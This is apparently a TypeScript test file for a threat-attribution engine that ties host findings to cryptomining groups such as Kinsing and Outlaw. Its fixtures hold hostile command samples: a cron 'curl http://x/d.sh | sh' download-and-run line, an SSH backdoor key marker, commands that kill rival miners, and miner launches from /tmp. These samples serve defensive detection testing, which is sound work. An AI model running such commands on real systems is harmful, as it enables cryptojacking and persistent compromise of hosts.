import { describe, expect, it } from 'vitest';
import { type Finding, findingId } from '../model/finding.js';
import { attribute, loadGroupProfiles } from './attribution.js';

const host = { id: 'h', name: 'h' };
function f(ruleId: string, entity: Finding['entity'], evidence: Record<string, unknown> = {}): Finding {
  return {
    id: findingId('h', ruleId, entity),
    ruleId,
    title: ruleId,
    severity: 'high',
    confidence: 0.8,
    category: 'impact',
    techniques: [],
    host,
    time: '2026-11-26T00:00:00Z',
    entity,
    evidence,
  };
}

describe('attribution', () => {
  const profiles = loadGroupProfiles();

  it('names Kinsing for its miner and loader names', () => {
    const [best] = attribute(
      [
        f('miner.cmdline', { kind: 'process', pid: 1, exe: '/tmp/kdevtmpfsi' }),
        f(
          'persist.download-exec',
          { kind: 'file', path: '/etc/cron.d/x' },
          { lines: [{ line: 1, text: 'curl http://x/d.sh | sh' }] },
        ),
      ],
      profiles,
    );
    expect(best).toMatchObject({ group: 'Kinsing' });
    expect(best?.indicators).toEqual(['miner named kdevtmpfsi', 'd.sh / spr.sh loader']);
    expect(best?.score).toBeGreaterThan(0.6);
  });

  it('names Outlaw for its key, kit and brute-force entry, above everyone else', () => {
    const out = attribute(
      [
        f(
          'persist.ssh.known-bad-key',
          { kind: 'file', path: '/root/.ssh/authorized_keys' },
          { lines: [{ line: 1, text: 'ssh-rsa AAAA mdrfckr' }] },
        ),
        f(
          'persist.exec-from-writable-path',
          { kind: 'file', path: '/var/spool/cron/crontabs/root' },
          { paths: ['/root/.configrc/a/upd'] },
        ),
        f('ssh.success-after-failures', { kind: 'source-ip', ip: '203.0.113.9' }),
      ],
      profiles,
    );
    expect(out.map((a) => a.group)).toEqual(['Outlaw']);
    expect(out[0]?.score).toBeGreaterThan(0.8);
  });

  it('leaves a generic miner unattributed', () => {
    expect(
      attribute(
        [
          f(
            'miner.cmdline',
            { kind: 'process', pid: 2, exe: '/tmp/xmrig' },
            { commandLine: 'xmrig -o pool:3333' },
          ),
        ],
        profiles,
      ),
    ).toEqual([]);
  });

  it("does not count the rivals a script kills as the rivals' own indicators", () => {
    // A TeamTNT-style kit that kills Kinsing's and 8220's miners before starting its own.
    const out = attribute(
      [
        f(
          'miner.cmdline',
          { kind: 'process', pid: 3, exe: '/tmp/.x/xmrig' },
          { commandLine: 'xmrig -o p:3333' },
        ),
        f(
          'competitor.kill-miners',
          { kind: 'file', path: '/tmp/.x/init.sh' },
          { fields: { 'file.content': 'pkill -f kdevtmpfsi\nkillall kinsing sysupdate networkservice' } },
        ),
        f(
          'exec.history-dropper',
          { kind: 'file', path: '/root/.bash_history' },
          {
            lines: [
              { line: 3, text: 'pkill -9 kinsing; pkill -9 kdevtmpfsi', tags: ['rival-kill'] },
              {
                line: 4,
                text: "ps aux | grep sysguard | awk '{print $2}' | xargs kill -9",
                tags: ['rival-kill'],
              },
            ],
          },
        ),
      ],
      profiles,
    );
    expect(out).toEqual([]);
  });

  it('still sees the actor on a line that also kills a rival', () => {
    const [best, ...rest] = attribute(
      [
        f(
          'exec.history-dropper',
          { kind: 'file', path: '/root/.bash_history' },
          { lines: [{ line: 1, text: 'pkill -f sysupdate; nohup /tmp/kinsing & /tmp/kdevtmpfsi &' }] },
        ),
      ],
      profiles,
    );
    expect(best).toMatchObject({
      group: 'Kinsing',
      indicators: ['miner named kdevtmpfsi', 'kinsing binary'],
    });
    expect(rest.map((a) => a.group)).not.toContain('8220');
  });

  it('rejects a profile file with a bad pattern, naming the field', () => {
    expect(() =>
      loadGroupProfiles({
        version: '1',
        date: 'x',
        groups: [{ name: 'g', indicators: [{ kind: 'text', pattern: '(', weight: 1, label: 'x' }] }],
      }),
    ).toThrow(/groups\.0\.indicators\.0\.pattern/);
  });
});
